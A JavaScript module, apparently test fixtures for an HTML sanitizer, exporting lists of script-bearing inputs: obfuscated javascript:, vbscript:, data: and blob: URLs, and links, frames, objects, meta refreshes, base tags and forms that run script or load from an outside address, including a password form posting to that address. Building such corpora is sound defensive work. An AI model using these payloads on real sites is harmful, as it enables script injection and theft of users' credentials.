/** Addresses that are code, and elements that lead to one. */
import { away, page, picture, references, run } from './parts.js';

/** Each is an address by itself, for a text that is used as one. */
export const addresses = [
  `javascript:${run}`,
  ` \u0001JaVaScRiPt:${run}`,
  `java\nscript:${run}`,
  `java\tscr\ript\n:${run}`,
  `javascript://example.com/%0A${run}`,
  `view-source:javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  page,
  picture,
  `blob:null/${run}`,
];

export const links = [
  ...addresses.map((address) => `<a href="${address}">one</a>`),
  `<a href="${references(`javascript:${run}`)}">one</a>`,
  `<a href="javascript&colon;${run.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;')}">one</a>`,
  `<a href="java&Tab;scr&NewLine;ipt:${run}">one</a>`,
  `<a href="&#x1;&#x20;javascript:${run}" target="_top">one</a>`,
  `<a href='javascript:${run}' ping="${away}/ping" download rel="opener">one</a>`,
  `<a href="x" href="javascript:${run}" onclick="${run}">one</a>`,
  `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m" src="x:">`,
  `<blockquote cite="javascript:${run}"><q cite="javascript:${run}">one</q></blockquote>`,
  `<table background="javascript:${run}"><tr><td background="${away}/cell">one</td></tr></table>`,
  `<img src="javascript:${run}" longdesc="javascript:${run}" dynsrc="javascript:${run}">`,
];

export const documents = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src="${page}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="${references(`<img src=x: onerror=${run}>`)}" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe credentialless src="${away}/frame" onload="${run}"></iframe>`,
  `<frameset onload="${run}"><frame src="javascript:${run}"></frameset><iframe onload="${run}"></iframe>`,
  `<object data="${page}" type="text/html"></object>`,
  `<object data="javascript:${run}"><param name="code" value="${run}"></object>`,
  `<embed src="javascript:${run}" type="image/svg+xml"><embed src="${picture}">`,
  `<fencedframe src="${away}/fenced"></fencedframe><portal src="${away}/portal"></portal>`,
  `<base href="${away}/base/"><a href="next">one</a>`,
  `<base target="_top" href="javascript:/a/-${run}//"><a href="#">one</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
  `<meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">`,
  `<link rel="stylesheet" href="${away}/sheet.css"><link rel="preload" as="script" href="${away}/preload.js">`,
  `<link rel="manifest" href="${away}/manifest"><link rel="import" href="${page}">`,
];

export const forms = [
  `<form action="javascript:${run}"><input type="submit" autofocus></form>`,
  `<form action="${away}/password"><label>Password <input type="password" name="password"></label><button>Sign in</button></form>`,
  `<form><button formaction="javascript:${run}">one</button></form>`,
  `<form id="f"></form><button form="f" formaction="javascript:${run}">one</button>`,
  `<form><input type="image" src="${away}/image" formaction="javascript:${run}"></form>`,
  `<isindex action="javascript:${run}" type="image">`,
  `<select onchange="${run}" autofocus onfocus="${run}"><option>one</option></select>`,
  `<textarea autofocus onfocus="${run}">one</textarea>`,
  `<select><button><selectedcontent></selectedcontent></button><option><img src="x:" onerror="${run}">one</option></select>`,
];
